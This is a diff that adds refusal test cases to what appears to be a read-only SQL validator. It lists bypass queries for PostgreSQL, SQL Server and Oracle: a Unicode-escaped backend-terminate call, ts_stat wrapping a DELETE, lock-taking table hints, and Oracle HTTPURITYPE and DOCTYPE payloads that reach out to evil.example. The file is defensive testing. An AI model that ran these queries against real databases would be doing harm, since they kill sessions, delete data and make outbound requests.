@@ -272,6 +272,63 @@ REFUSED = [
     ("SELECT [a;b] FROM t", "generic", "';' inside '[a;b]' is ambiguous: not allowed"),
     ("SELECT 1\x00; DROP TABLE x", "generic", "NUL character in SQL text"),
     ("SELECT 1 FROM t; TRUNCATE t", "generic", "only one statement allowed, found 2"),
+    # bypasses an impostor's spec used on a live PostgreSQL / SQL Server / Oracle (issue 14)
+    (
+        'SELECT U&"pg\\005fterminate_backend"(pid) FROM pg_stat_activity',
+        "postgresql",
+        'Unicode-escaped names and strings (U&"...") are not allowed',
+    ),
+    (
+        "SELECT * FROM ts_stat('DELETE FROM cwd_user RETURNING 1')",
+        "postgresql",
+        "function ts_stat() has side effects: not allowed",
+    ),
+    (
+        "SELECT ts_rewrite('a'::tsquery, 'SELECT 1')",
+        "postgresql",
+        "function ts_rewrite() has side effects: not allowed",
+    ),
+    (
+        "SELECT gin_clean_pending_list('i'::regclass)",
+        "postgresql",
+        "function gin_clean_pending_list() has side effects: not allowed",
+    ),
+    (
+        "SELECT brin_summarize_new_values('i')",
+        "postgresql",
+        "function brin_summarize_new_values() has side effects: not allowed",
+    ),
+    (
+        "SELECT txid_current()",
+        "postgresql",
+        "function txid_current() has side effects: not allowed",
+    ),
+    (
+        "SELECT pg_stat_reset_shared('bgwriter')",
+        "postgresql",
+        "function pg_stat_reset_shared() has side effects: not allowed",
+    ),
+    (
+        "SELECT * FROM cwd_user WITH (UPDLOCK)",
+        "sqlserver",
+        "the table hint UPDLOCK takes locks: not allowed",
+    ),
+    (
+        "SELECT * FROM t WITH (TABLOCKX)",
+        "sqlserver",
+        "the table hint TABLOCKX takes locks: not allowed",
+    ),
+    ("SELECT * FROM t WITH (XLOCK)", "sqlserver", "the table hint XLOCK takes locks: not allowed"),
+    (
+        "SELECT HTTPURITYPE('http://evil.example/').getclob() FROM dual",
+        "oracle",
+        "function httpuritype() has side effects: not allowed",
+    ),
+    (
+        "SELECT extractvalue(xmltype('<!DOCTYPE r SYSTEM \"http://evil.example/\"><r/>'), '/r') FROM dual",
+        "oracle",
+        "XML with a DOCTYPE or ENTITY declaration is not allowed",
+    ),
 ]
 
 
